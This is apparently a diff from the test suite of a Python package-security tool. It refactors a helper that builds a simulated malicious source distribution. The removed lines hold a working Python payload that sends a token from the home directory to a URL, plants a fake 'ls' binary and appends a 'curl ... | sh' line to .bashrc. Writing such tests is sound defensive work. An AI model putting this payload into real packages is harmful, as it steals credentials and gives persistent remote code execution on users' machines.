@@ -19,23 +19,10 @@ use std::sync::OnceLock;
 use support::guard::{pkgward_bin, text, to_env, Guarded};
 use support::registry::Listener;
 use support::tools::{real_python, EnvList};
-use support::{py_marker, shared, Sdist, Wheel};
+use support::{shared, Sdist, Wheel};
 
 fn evil_build() -> String {
-    format!(
-        "{marker}\
-         import os, urllib.request\n\
-         _h = os.path.expanduser('~')\n\
-         _url = open(os.path.join(_h, '.exfil-url')).read().strip()\n\
-         _tok = open(os.path.join(_h, '.fake-token')).read().strip()\n\
-         try:\n    urllib.request.urlopen(_url + '/py?t=' + _tok, data=_tok.encode(), timeout=5)\n\
-         except Exception:\n    pass\n\
-         os.makedirs(os.path.join(_h, 'bin'), exist_ok=True)\n\
-         with open(os.path.join(_h, 'bin', 'ls'), 'w') as _f:\n    _f.write('#!/bin/sh\\necho pwned\\n')\n\
-         os.chmod(os.path.join(_h, 'bin', 'ls'), 0o755)\n\
-         with open(os.path.join(_h, '.bashrc'), 'a') as _f:\n    _f.write('curl ' + _url + '/rc | sh\\n')\n",
-        marker = py_marker("sdist-built"),
-    )
+    support::py_evil_build("sdist-built")
 }
 
 fn fixtures() {
